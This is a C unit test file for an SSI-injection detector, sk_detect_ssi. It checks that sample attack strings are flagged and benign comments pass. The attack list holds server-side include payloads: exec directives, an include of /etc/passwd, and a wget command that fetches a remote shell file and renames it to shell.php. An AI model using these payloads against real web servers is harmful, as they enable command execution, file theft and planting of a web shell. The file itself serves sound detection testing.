/* sk_detect_ssi: attacks caught at both levels, benign text passed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/detect.h"

static const char *const attacks[] = {
    "<!--#exec cmd=\"ls\" -->",
    "<!--#include virtual=\"/etc/passwd\" -->",
    "<!--#echo var=\"DATE_LOCAL\" -->",
    "<!--#EXEC cmd=\"dir\" -->",
    "<!--#printenv -->",
    "x<!--#config timefmt=\"%A\" -->",
    "<!--#exec cmd=\"wget http://some_host/shell.txt | rename shell.txt shell.php\"-->",
};

static const char *const benign[] = {
    "<!-- #exec is a directive -->",
    "<!-- comment -->",
    "<!--#region folding-->",
    "<!--#-->",
    "Use <!--#exec ...--> to run commands",
    "<!--#executive summary-->",
    "# heading",
};

static void check_list(const char *const *list, size_t count, int level, bool want)
{
	int bad = 0;
	for (size_t i = 0; i < count; i++) {
		sk_detect_match m;
		memset(&m, 0, sizeof m);
		const char *s = list[i];
		size_t n = strlen(s);
		bool got = sk_detect_ssi((const uint8_t *)s, n, level, &m);
		if (got != want) {
			print_error("%s at level %d: %s (%s)\n", want ? "missed" : "false positive",
			            level, s, m.reason);
			bad++;
		} else if (got && (!m.reason[0] || m.off + m.len > n || m.len == 0)) {
			print_error("bad match span or reason: %s\n", s);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

#define COUNT(a) (sizeof a / sizeof a[0])

static void attacks_detected(void **state)
{
	(void)state;
	check_list(attacks, COUNT(attacks), 0, true);
	check_list(attacks, COUNT(attacks), 1, true);
}

static void benign_passes(void **state)
{
	(void)state;
	check_list(benign, COUNT(benign), 0, false);
	check_list(benign, COUNT(benign), 1, false);
}

static void empty_and_cut(void **state)
{
	(void)state;
	assert_false(sk_detect_ssi(NULL, 0, 0, NULL));
	assert_false(sk_detect_ssi((const uint8_t *)"", 0, 0, NULL));
	/* Every prefix of every attack is judged without reading past its end. */
	for (size_t i = 0; i < COUNT(attacks); i++) {
		size_t n = strlen(attacks[i]);
		for (size_t k = 0; k <= n; k++) {
			uint8_t *copy = malloc(k ? k : 1);
			memcpy(copy, attacks[i], k);
			sk_detect_match m;
			(void)sk_detect_ssi(copy, k, 0, &m);
			free(copy);
		}
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(attacks_detected),
	    cmocka_unit_test(benign_passes),
	    cmocka_unit_test(empty_and_cut),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
